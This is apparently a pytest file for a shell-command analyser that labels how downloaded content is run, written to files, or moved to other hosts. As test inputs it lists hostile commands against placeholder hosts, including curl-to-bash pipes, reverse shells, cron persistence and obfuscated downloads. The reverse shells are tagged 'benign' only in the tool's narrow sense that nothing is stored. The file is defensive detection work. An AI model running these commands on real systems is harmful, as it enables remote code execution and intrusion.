"""Content that Unix commands pass to each other is followed from where it is fetched to where it stays or runs."""

from __future__ import annotations

import pytest

from tidewaiter.reading.reader import read, shell_of

U = "https://files.example.net/k"

RUN = [
    f'bash <<< "$(curl -s {U})"',
    f"bash < <(wget -qO- {U})",
    f'text=$(curl -s {U}); echo "$text" | sh',
    f'source /dev/stdin <<< "$(curl -s {U})"',
    f"curl -s {U} | tee /tmp/k | bash",
    f"curl -s {U} | sed s/a/b/ | sudo -E bash -s -- --quiet",
    f"curl -s {U} | base64 -d | gunzip | python3 -",
    f"curl -s {U} | env A=1 su app -c bash",
    f"curl -s {U} | xargs -0 sh -c",
    f"fish -c 'curl -s {U} | source'",
    f'python3 -c "$(curl -s {U})"',
    f"python3 <(curl -s {U})",
    "exec 4<>/dev/tcp/files.example.net/80; bash <&4",
]
LANDS = [
    (f"curl -s {U} | sudo tee -a /etc/k.conf", "/etc/k.conf"),
    (f"curl -s {U} | dd of=/dev/shm/k status=none", "/dev/shm/k"),
    (f"curl -s {U} | install -m 755 /dev/stdin /usr/bin/k", "/usr/bin/k"),
    (f"cat <(curl -s {U}) > /srv/k", "/srv/k"),
    (f"nohup setsid nice -n 19 wget -q {U} -O /tmp/k &", "/tmp/k"),
    (f"find / -maxdepth 0 -exec sh -c 'curl -o /tmp/k {U}' \\;", "/tmp/k"),
    (f"flock -n /tmp/l -c 'wget -P /tmp {U}'", "/tmp/k"),
    (f"cp $(which curl) /tmp/.c; /tmp/.c -o /tmp/k {U}", "/tmp/k"),
    (f"echo 'curl -o /tmp/k {U}' > /tmp/r.sh; sh /tmp/r.sh", "/tmp/k"),
    (f"bash -c {{echo,{'Y3VybCAtbyAvdG1wL2sgaHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC9r'}}}|{{base64,-d}}|{{bash,-i}}", "/tmp/k"),
    (f"/usr/bin/c?rl -o /tmp/k {U}", "/tmp/k"),
    (f"(crontab -l; echo '@daily curl -o /tmp/k {U}') | crontab -", "/tmp/k"),
    (f"echo '*/9 * * * * root wget -O /tmp/k {U}' >> /etc/crontab", "/tmp/k"),
    (f"ssh ops@web7.example.net 'wget -O /tmp/k {U}'", "/tmp/k"),
]
KEEPS_NOTHING = [
    "mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/p",
    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1",
    "timeout 2 bash -c '</dev/tcp/198.51.100.4/22'",
    f"curl -s {U} | wc -l > count",
    f"diff <(curl -s {U}) local.cfg > changes",
    f'[ "$(curl -s {U})" = ok ]',
    "cat setup.sh | sh",
    f"printf 'curl -o k {U}' > notes.txt",
]


@pytest.mark.parametrize("command", RUN)
def test_content_reaches_an_interpreter(command: str) -> None:
    reading = read(command, "linux", cpu_seconds=5)
    assert reading.label == "ingress"
    assert any(action.runs for action in reading.actions)


@pytest.mark.parametrize(("command", "path"), LANDS)
def test_content_reaches_a_file(command: str, path: str) -> None:
    reading = read(command, "linux", cpu_seconds=5)
    assert reading.label == "ingress"
    assert [action.dest for action in reading.actions if action.urls == (U,)] == [path]


@pytest.mark.parametrize("command", KEEPS_NOTHING)
def test_nothing_is_kept(command: str) -> None:
    assert read(command, "linux", cpu_seconds=5).label == "benign"


def test_what_a_command_on_another_host_stores_is_lateral() -> None:
    reading = read("tar cz kit | ssh ops@web7.example.net 'tar xz -C /opt'", "linux", cpu_seconds=5)
    assert [action.dest for action in reading.actions if action.kind == "lateral"] == ["/opt"]


def test_a_mounted_folder_names_its_source() -> None:
    reading = read("sshfs ops@store.example.net:/srv /mnt/s && cp /mnt/s/k /tmp/k", "linux", cpu_seconds=5)
    assert [(action.urls, action.dest) for action in reading.actions if action.kind == "ingress"] == [
        (("ops@store.example.net:/srv",), "/tmp/k")
    ]


def test_carriers_are_named_before_what_they_start() -> None:
    reading = read(f"kubectl exec web-0 -- busybox wget -O /tmp/k {U}", "linux", cpu_seconds=5)
    assert reading.actions[0].utility == "kubectl busybox wget"


def test_programs_of_one_grammar_have_their_own_names() -> None:
    assert read("wormhole receive 3-alpha-bravo", "linux", cpu_seconds=5).actions[0].utility == "wormhole"


def test_a_network_system_is_read_as_such_unless_a_shell_speaks() -> None:
    assert shell_of("copy tftp://198.51.100.6/k flash:", "network") == "network"
    assert shell_of("cd /tmp; wget http://198.51.100.6/k; sh k", "network") == "bash"
    assert shell_of("curl -o /tmp/k http://198.51.100.6/k", "network") == "bash"


def test_commands_of_network_systems_mean_nothing_elsewhere() -> None:
    assert read("verify /md5 flash:k.bin", "linux", cpu_seconds=5).label == "benign"
    assert read("verify /md5 flash:k.bin", "network", cpu_seconds=5).label == "verify_hash"
